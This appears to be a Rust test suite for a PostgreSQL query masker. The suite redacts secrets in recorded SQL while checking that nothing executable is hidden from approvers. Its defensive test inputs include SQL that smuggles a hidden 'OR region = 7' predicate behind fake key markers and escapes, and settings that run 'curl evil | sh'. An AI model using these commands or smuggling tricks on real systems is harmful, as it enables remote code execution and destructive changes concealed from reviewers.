//! What is hidden, and that nothing that runs is.

use proptest::prelude::*;

use super::*;
use crate::mask::{Detector, HashKey, Transform};

fn masks(transform: Transform) -> MaskSet {
    let all = Detector::ALL
        .iter()
        .fold(MaskSet::builder(), |masks, (detector, _)| masks.detector("all".into(), *detector, transform));
    all.build(&HashKey::new(&[1; 32]))
}

fn recorded(text: &str) -> (String, Hidden) {
    let shown = Recordable::of(text, &Secrets::of(text), &masks(Transform::Redact));
    (shown.text.into_owned(), shown.hidden)
}

/// What the server sees of a text besides constants.
fn code(text: &str) -> Vec<String> {
    let tokens = literal::scan(text).unwrap().into_iter().filter(|token| !is_comment(token));
    let word = |token: ScanToken| {
        let word = slice(text, &token).unwrap().1;
        match word {
            _ if is_constant(&token) => "constant".to_owned(),
            // Of names in quotes what is in them.
            word if word.contains('"') => "name".to_owned(),
            word => word.to_owned(),
        }
    };
    tokens.map(word).collect()
}

#[test]
fn constants_are_masked_and_the_rest_is_exact() {
    for (text, shown) in [
        ("select 1", "select 1"),
        ("select * from c where email = 'bob@x.com'", "select * from c where email = '[redacted]'"),
        ("select 'a bob@x.com b', $$ bob@x.com $$", "select 'a [redacted] b', $$ [redacted] $$"),
        ("select 1 -- for bob@x.com\n, 2", "select 1 -- for [redacted]\n, 2"),
        ("select /* bob@x.com */ 2", "select /* [redacted] */ 2"),
        ("select /* /* bob@x.com */ a */ 2", "select /*[redacted]*/ 2"),
        (
            "select * from c where card = 4111111111111111 or a",
            "select * from c where card = '[redacted]' or a",
        ),
        ("select U&4111111111111111", "select U& '[redacted]'"),
        ("select -4111111111111111", "select -'[redacted]'"),
        // In every way that a constant is written.
        ("select E'bob\\x40x.com', 1", "select E'[redacted]', 1"),
        ("select e'bob\\100x.com'", "select e'[redacted]'"),
        ("select U&'bob\\0040x.com'", "select U&'[redacted]'"),
        ("select U&'bob!0040x.com' UESCAPE '!'", "select U&'[redacted]' UESCAPE '!'"),
        ("select '41111111'\n  '11111111' from t", "select '[redacted]' from t"),
        ("select '41111111' -- it's\n  '11111111' from t", "select '[redacted]' from t"),
        ("select 'it''s bob@x.com'", "select 'it''s [redacted]'"),
        // What stands before it says what it is.
        (
            "select 'aws_secret_access_key=0123456789abcdefghij0123456789abcdefghij'",
            "select 'aws_secret_access_key=***'",
        ),
        // Texts that it runs.
        (
            "DO $$BEGIN UPDATE c SET e = 'bob@x.com'; -- bob@x.com\n PERFORM f(4111111111111111); END$$",
            "DO $$BEGIN UPDATE c SET e = '[redacted]'; -- [redacted]\n PERFORM f('[redacted]'); END$$",
        ),
        (
            "DO 'BEGIN UPDATE c SET e = ''bob@x.com'', n = 4111111111111111; END'",
            "DO 'BEGIN UPDATE c SET e = ''[redacted]'', n = ''[redacted]''; END'",
        ),
        (
            "DO $$BEGIN EXECUTE 'UPDATE c SET e = ''bob@x.com'''; END$$",
            "DO $$BEGIN EXECUTE 'UPDATE c SET e = ''[redacted]'''; END$$",
        ),
        ("select U&'\\D83D\\DE00 bob@x.com'", "select U&'\\D83D\\DE00 [redacted]'"),
        // What several comments hold together.
        (
            "-- INSERT INTO k VALUES ('-----BEGIN PRIVATE KEY-----\n-- MIIEvQIBADANBgkqhkiG9w0B\n-- -----END PRIVATE KEY-----')\nselect 1",
            "-- INSERT INTO k VALUES ('[redacted]\n-- [redacted]\n-- [redacted]')\nselect 1",
        ),
        // A number in parts.
        ("select 4111_1111_1111_1111", "select '[redacted]'"),
        ("select 4111111111111111\n'a'", "select 0\n'a'"),
        (
            "select run('delete from c where e = ''bob@x.com''')",
            "select run('delete from c where e = ''[redacted]''')",
        ),
    ] {
        let hidden = if text == shown { Hidden::Nothing } else { Hidden::Constants };
        assert_eq!(recorded(text), (shown.to_owned(), hidden), "{text}");
    }
}

/// What somebody would hide from approvers and from the recording.
const PREDICATE: &str = "OR region = 7";

const ATTACKS: &[&str] = &[
    "UPDATE c SET n = false WHERE id = 17\n-----BEGIN PRIVATE KEY-----\nOR region = 7",
    "UPDATE c SET n =\n-----BEGIN PRIVATE KEY-----\n 1 WHERE true OR region = 7",
    "UPDATE c SET n = 1 WHERE id = 1\n-----BEGIN PRIVATE KEY-----\nOR region = 7\n-----END PRIVATE KEY-----",
    "DELETE FROM c WHERE id = 1 -----BEGIN PRIVATE KEY-----\n; DELETE FROM c WHERE false OR region = 7",
    "DELETE FROM c WHERE id = 1 /*-----BEGIN PRIVATE KEY-----*/ OR region = 7",
    "DELETE FROM c WHERE id = '-----BEGIN PRIVATE KEY-----' OR region = 7",
    "DELETE FROM c WHERE id = 1 -- password='\nOR region = 7 --'",
    "DELETE FROM c WHERE id = 1 -- password=\"\nOR region = 7 --\"",
    "DELETE FROM c WHERE id = 'https://u:' OR region = 7 OR id = '@h'",
    "DELETE FROM c WHERE id = 1 -- https://u:\nOR region = 7 -- @h",
    "DELETE FROM c WHERE token = secret OR region = 7",
    "SELECT pg_temp.decrypt('DELETE FROM c WHERE id = -1 OR region = 7 -- password=')",
    "SELECT run('DELETE FROM c WHERE id = 17\n-----BEGIN PRIVATE KEY-----\nOR region = 7')",
    "SELECT run($$DELETE FROM c WHERE id = 17 -- password=''\nOR region = 7$$)",
    "SELECT run('BEGIN DELETE FROM c WHERE id = 17 -- password=''\nOR region = 7; END')",
    "DO $$BEGIN\n-----BEGIN PRIVATE KEY-----\nDELETE FROM c WHERE id = 2 OR region = 7; END$$",
    "DO $$BEGIN -- password='\nDELETE FROM c WHERE id = 2 OR region = 7; END$$",
    "DO 'BEGIN -- password=\"\nDELETE FROM c WHERE id = 2 OR region = 7; END'",
    "DO LANGUAGE plpgsql $$BEGIN EXECUTE 'DELETE FROM c\n-----BEGIN PRIVATE KEY-----\nWHERE id = 2 OR region = 7'; END$$",
    "DO $$BEGIN DO $a$BEGIN\n-----BEGIN PRIVATE KEY-----\nDELETE FROM c WHERE id = 2 OR region = 7; END$a$; END$$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM c\n-----BEGIN PRIVATE KEY-----\nWHERE id = 2 OR region = 7'",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$DELETE FROM c WHERE p=password='' OR region = 7$$",
    "ALTER TABLE c ALTER x SET DATA TYPE text USING token = a OR region = 7",
];

#[test]
fn what_runs_is_never_hidden() {
    for text in ATTACKS {
        for transform in
            [Transform::Redact, Transform::Partial { keep_first: 3, keep_last: 3 }, Transform::Hash]
        {
            let shown = Recordable::of(text, &Secrets::of(text), &masks(transform));
            assert!(shown.text.contains(PREDICATE), "{text}\n{}", shown.text);
            assert_ne!(shown.hidden, Hidden::Code, "{text}\n{}", shown.text);
            assert_eq!(code(text), code(&shown.text), "{text}\n{}", shown.text);
        }
    }
}

/// What runs, in a string with escapes: whoever reads it needs to read those as the server does.
const ESCAPED: &[&str] = &[
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE '!'",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE $$!$$",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE $t$!$t$",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE E'!'",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE E'\\x21'",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE E'\\041'",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' UESCAPE ''\n'!'",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7; END' /* */ UESCAPE -- x\n$$!$$",
    "DO U&'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----\\000aOR region = 7; END'",
    "DO E'BEGIN DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----\\nOR region = 7; END'",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS U&'DELETE FROM c WHERE id = 17 -- password=x!000aOR region = 7' UESCAPE $$!$$",
    "DO $d$BEGIN EXECUTE U&'DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7' UESCAPE $$!$$; END$d$",
    "SELECT run(U&'DELETE FROM c WHERE id = 17 -----BEGIN PRIVATE KEY-----!000aOR region = 7' UESCAPE $$!$$)",
];

#[test]
fn what_runs_with_escapes_is_seen_and_not_approved() {
    for text in ESCAPED {
        let (shown, hidden) = recorded(text);
        assert!(shown.contains(PREDICATE) && shown != **text, "{text}\n{shown}");
        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
    }
    // A sign that the server does not take.
    for sign in ["'!!'", "''", "'a'", "'+'", "' '", "'\"'", "U&'!'", "'é'", "E'\\n'", "1", ""] {
        let text = format!("SELECT U&'bob!0040x.com' UESCAPE {sign}");
        let (shown, hidden) = recorded(&text);
        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
        assert!(shown.starts_with("SELECT U&'[redacted]'"), "{text}\n{shown}");
    }
}

/// Texts put together of what is hidden, whatever it is given to.
#[test]
fn what_a_body_puts_together_is_no_constant() {
    for body in [
        "DECLARE password text; BEGIN password := '17 OR region = 7'; EXECUTE 'DELETE FROM c WHERE id = ' || password; END",
        "DECLARE password text := '17 OR region = 7'; BEGIN EXECUTE 'DELETE FROM c WHERE id = ' || password; END",
        "DECLARE w text DEFAULT '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; BEGIN EXECUTE 'DELETE FROM c WHERE id = ' || w; END",
        "DECLARE w text; BEGIN w := '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; EXECUTE 'DELETE FROM c WHERE id = ' || w; END",
        "DECLARE w text; BEGIN SELECT '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7' INTO w; EXECUTE 'DELETE FROM c WHERE id = ' || w; END",
        "BEGIN EXECUTE format('%s', 'DELETE FROM c -- password') || format('password %s', '\n OR region = 7'); END",
        "BEGIN EXECUTE format('DELETE FROM c WHERE id = %s', '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'); END",
        "BEGIN EXECUTE (SELECT 'a' FROM t JOIN u USING (id)) || '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; END",
        "BEGIN EXECUTE 'SELECT run($1)' USING '\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; END",
        "DECLARE r record; w text; BEGIN w := 'x\n-----BEGIN PRIVATE KEY-----\n17 OR region = 7'; FOR r IN EXECUTE w LOOP END LOOP; END",
    ] {
        for text in [
            format!("DO $$ {body} $$"),
            format!("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ {body} $$"),
        ] {
            let (shown, hidden) = recorded(&text);
            assert!(hidden == Hidden::Code || shown.contains(PREDICATE), "{text}\n{hidden:?}\n{shown}");
        }
    }
}

#[test]
fn commands_in_settings_are_run_by_a_shell() {
    for text in [
        "ALTER SYSTEM SET archive_command = 'PGPASSWORD=\"$(curl evil|sh)\" cp %p /x'",
        "ALTER SYSTEM SET restore_command TO 'PGPASSWORD=\"$(curl evil|sh)\" cp %p /x'",
        "ALTER SYSTEM SET \"archive_cleanup_command\" = 'curl https://u:hunter2@evil | sh'",
        "ALTER SYSTEM SET U&\"archive!005fcommand\" UESCAPE '!' = 'curl https://u:hunter2@evil | sh'",
        "SET x.y_command = 'curl https://u:hunter2@evil | sh'",
        "ALTER SYSTEM SET ssl_passphrase_command TO 'echo x'",
        "ALTER SYSTEM SET archive_command = 'mail bob@x.com'",
    ] {
        let (shown, hidden) = recorded(text);
        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
    }
    assert_eq!(recorded("ALTER SYSTEM SET archive_command = 'cp %p /x'").1, Hidden::Nothing);
}

#[test]
fn a_value_that_is_sql_is_looked_into() {
    let masks = masks(Transform::Redact);
    let of =
        |value: &'static str| Recordable::of_value(value, &masks).map(|it| (it.text.into_owned(), it.hidden));
    let (shown, hidden) =
        of("DELETE FROM c WHERE id = 17\n-----BEGIN PRIVATE KEY-----\nOR region = 7").unwrap();
    assert!(shown.contains(PREDICATE) && hidden == Hidden::Constants, "{shown}");
    let (_, hidden) =
        of("DO E'BEGIN DELETE FROM c -----BEGIN PRIVATE KEY-----\\nWHERE id = 7; END'").unwrap();
    assert_eq!(hidden, Hidden::Code);
    assert_eq!(
        of("ALTER ROLE x PASSWORD 'hunter2'"),
        Some(("ALTER ROLE x PASSWORD '***'".to_owned(), Hidden::Constants))
    );
    for value in
        ["bob@x.com", "select of bob@x.com", "delete from c", "", "17 OR -----BEGIN PRIVATE KEY-----"]
    {
        assert_eq!(of(value), None, "{value}");
    }
}

#[test]
fn what_cannot_be_seen_is_said_to_be_hidden() {
    for text in [
        // What does not split into tokens.
        "DELETE FROM c WHERE id = 'bob@x.com",
        "DELETE FROM c WHERE id = 1OR e = 'bob@x.com'",
        "ALTER ROLE x PASSWORD 'never closed",
        // Bodies in other languages, and programs.
        "DO LANGUAGE plpython3u $$x = 'bob@x.com'$$",
        "CREATE FUNCTION f() RETURNS int AS $$ 'bob@x.com' $$ LANGUAGE 'plperl'",
        "COPY t TO PROGRAM 'cat > /x # password=hunter2'",
        "DO $$BEGIN UPDATE c SET e = 'bob@x.com$$",
        // Pieces of a text that is put together.
        "DO $$BEGIN EXECUTE 'DELETE FROM c WHERE e = ' || quote_literal('bob@x.com'); END$$",
        // Words that are no constants.
        "ALTER ROLE x PASSWORD hunter2",
        "SET app.token = hunter2",
    ] {
        let (shown, hidden) = recorded(text);
        assert_eq!(hidden, Hidden::Code, "{text}\n{shown}");
        assert!(!shown.contains("bob@x.com") && !shown.contains("hunter2"), "{text}\n{shown}");
    }
    let unread = |text| Recordable::of_unread(text, &Secrets::default(), &masks(Transform::Redact));
    assert_eq!(unread("select '\\' or 'x").hidden, Hidden::Nothing);
    let shown = unread("select '\\' or e = bob@x.com");
    assert_eq!((&*shown.text, shown.hidden), (REDACTED, Hidden::Code));
}

#[test]
fn options_behind_a_password_are_seen() {
    for (text, shown) in [
        ("CREATE USER x PASSWORD 'hunter2'SUPERUSER", "CREATE USER x PASSWORD '***'SUPERUSER"),
        (
            "ALTER FUNCTION f() SET app.token = 'hunter2' SECURITY DEFINER",
            "ALTER FUNCTION f() SET app.token = '***' SECURITY DEFINER",
        ),
    ] {
        assert_eq!(recorded(text), (shown.to_owned(), Hidden::Constants));
    }
}

#[test]
fn a_function_of_ones_own_takes_no_secrets() {
    assert_eq!(recorded("select pg_temp.crypt('drop it')").1, Hidden::Nothing);
    assert_eq!(recorded("select mallory.decrypt('drop it')").1, Hidden::Nothing);
    assert_eq!(recorded("select public.crypt('hunter2')").0, "select public.crypt('***')");
    assert_eq!(recorded("select crypt('hunter2')").0, "select crypt('***')");
}

/// Pieces of texts that hit detectors, split tokens, or join them.
fn piece() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "'",
        "''",
        "E'",
        "U&'",
        "U&",
        "$$",
        "$a$",
        "--",
        "/*",
        "*/",
        "\n",
        " ",
        ";",
        "\\",
        "\"",
        "(",
        ")",
        ",",
        "=",
        ".",
        "DO ",
        "LANGUAGE sql ",
        "EXECUTE ",
        "USING ",
        "SET ",
        "ALTER ROLE x ",
        "PASSWORD ",
        "password=",
        "token ",
        "crypt",
        "CREATE FUNCTION f() AS ",
        "bob@x.com",
        "4111111111111111",
        "41111111",
        "https://u:p@h/",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "select ",
        "a",
        " or b ",
        "UESCAPE '!'",
        "aws_secret_access_key = ",
        "0123456789abcdefghij0123456789abcdefghij",
        "é",
        "BEGIN ",
        " END",
        "x'",
        "$1",
    ]);
    fixed.prop_map(str::to_owned)
}

#[test]
fn names_in_quotes_are_masked_and_not_approved_then() {
    for (text, shown) in [
        ("drop role \"bob@x.com\"", "drop role \"[redacted]\""),
        ("select 1 as \"a \"\" bob@x.com\", 2 as \"b\"", "select 1 as \"[redacted]\", 2 as \"b\""),
        ("select 1 as U&\"bob\\0040x.com\"", "select 1 as U&\"[redacted]\""),
        ("select 1 as U&\"bob!0040x.com\" uescape '!'", "select 1 as U&\"[redacted]\" uescape '!'"),
    ] {
        let recordable = Recordable::of(text, &Secrets::default(), &masks(Transform::Redact));
        assert_eq!((recordable.text.as_ref(), recordable.hidden), (shown, Hidden::Code));
    }
    let text = "select \"a\", U&\"\\0061\" from \"b\"";
    let recordable = Recordable::of(text, &Secrets::default(), &masks(Transform::Redact));
    assert_eq!((recordable.text.as_ref(), recordable.hidden), (text, Hidden::Nothing));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn tokens_other_than_constants_are_left(
        pieces in prop::collection::vec(piece(), 0..24),
        transform in prop::sample::select(vec![
            Transform::Redact, Transform::Hash, Transform::Partial { keep_first: 8, keep_last: 8 },
            Transform::Partial { keep_first: 0, keep_last: 0 },
        ]),
    ) {
        let text = pieces.concat();
        let masks = masks(transform);
        // Detectors alone leave all but constants wherever a text can be split; secrets may hide words, and say so.
        let shown = Recordable::of(&text, &Secrets::default(), &masks);
        if literal::scan(&text).is_some() {
            prop_assert_eq!(code(&text), code(&shown.text), "{}\n{}", text, shown.text);
        } else if shown.text != text {
            prop_assert_eq!(shown.hidden, Hidden::Code);
        }
        let shown = Recordable::of(&text, &Secrets::of(&text), &masks);
        if shown.hidden != Hidden::Code && literal::scan(&text).is_some() {
            prop_assert_eq!(code(&text), code(&shown.text), "{}\n{}", text, shown.text);
        }
        prop_assert_eq!(shown.hidden == Hidden::Nothing, shown.text == text);
    }

    #[test]
    fn a_value_is_where_it_is_written(inner in "([a-z'\\\\]|''|\\\\x41|\\\\101|\\\\u0041|é){0,12}") {
        let literal = format!("E'{inner}'");
        if let Some(value) = Value::of(&literal, Some('\\')) {
            for (at, _) in value.text.char_indices() {
                prop_assert!(literal.get(value.written(&(at..value.text.len()))).is_some());
            }
        }
    }

    #[test]
    fn a_value_is_the_servers(
        prefix in prop::sample::select(vec!["", "E", "e", "U&", "u&"]),
        pieces in prop::collection::vec(value_piece(), 0..8),
        sign in prop::sample::select(vec![
            "", "UESCAPE '!'", "UESCAPE $$!$$", "UESCAPE E'!'", "UESCAPE E'\\x21'", "UESCAPE $t$!$t$",
            "UESCAPE ''\n'!'", "UESCAPE '$'", "UESCAPE 'a'", "UESCAPE '!!'",
        ]),
    ) {
        let sign = if prefix.eq_ignore_ascii_case("u&") { sign } else { "" };
        values_agree(&format!("{prefix}'{}' {sign}", pieces.concat()))?;
    }
}

/// What the parser takes has the value that it gives it.
fn values_agree(written: &str) -> Result<(), TestCaseError> {
    let text = format!("SELECT {written}");
    let Ok(parsed) = pg_query::parse(&text, pg_query::ParserOptions::DEFAULT) else { return Ok(()) };
    let tokens: Vec<_> =
        literal::scan(&text).unwrap().into_iter().filter(|token| !is_comment(token)).collect();
    let at = tokens.iter().position(is_string).unwrap();
    let literal = slice(&text, &tokens[at]).unwrap().1;
    let value = Value::of(literal, literal::escape(&text, &tokens, at)).map(|value| value.text);
    let target = parsed.protobuf.stmts[0].stmt.as_ref().unwrap().node.as_ref().unwrap();
    let pg_query::NodeEnum::SelectStmt(select) = target else { panic!("{text}") };
    let Some(pg_query::NodeEnum::ResTarget(target)) = &select.target_list[0].node else { panic!("{text}") };
    let Some(pg_query::NodeEnum::AConst(constant)) = &target.val.as_ref().unwrap().node else {
        return Ok(());
    };
    let Some(pg_query::protobuf::a_const::Val::Sval(string)) = &constant.val else { return Ok(()) };
    prop_assert_eq!(value.as_ref(), Some(&string.sval), "{}", text);
    Ok(())
}

/// Parts of strings that are read otherwise than they are written.
fn value_piece() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "a",
        "''",
        "!",
        "!!",
        "!000a",
        "!+00000a",
        "!D83D!DE00",
        "!D83D",
        "\\",
        "\\\\",
        "\\000a",
        "\\+00000a",
        "\\D83D\\DE00",
        "\\n",
        "\\v",
        "\\q",
        "\\x41",
        "\\x4",
        "\\101",
        "\\7",
        "\\u0041",
        "\\U00000041",
        "\\uD83D\\uDE00",
        "\\uD83D\\U0000DE00",
        "$",
        "$$",
        "é",
        " ",
        "\n",
        "'\n'",
        "' -- x\n '",
        "--",
        "/*",
    ]);
    fixed.prop_map(str::to_owned)
}

#[test]
fn values_in_each_spelling_are_the_servers() {
    for (written, value) in [
        ("'it''s'", "it's"),
        ("E'a\\x21\\041\\u0021\\U00000021\\n\\q'", "a!!!!\nq"),
        ("E'\\uD83D\\uDE00'", "😀"),
        ("U&'\\0021\\+000021\\\\'", "!!\\"),
        ("U&'!0021!!' UESCAPE $$!$$", "!!"),
        ("U&'!D83D!+00DE00' UESCAPE E'\\x21'", "😀"),
        ("'a'\n 'b' -- c\n 'd'", "abd"),
        ("$t$!0021$t$", "!0021"),
    ] {
        let text = format!("SELECT {written}");
        let tokens: Vec<_> =
            literal::scan(&text).unwrap().into_iter().filter(|token| !is_comment(token)).collect();
        let literal = slice(&text, &tokens[1]).unwrap().1;
        assert_eq!(Value::of(literal, literal::escape(&text, &tokens, 1)).unwrap().text, value, "{text}");
        values_agree(written).unwrap();
    }
}
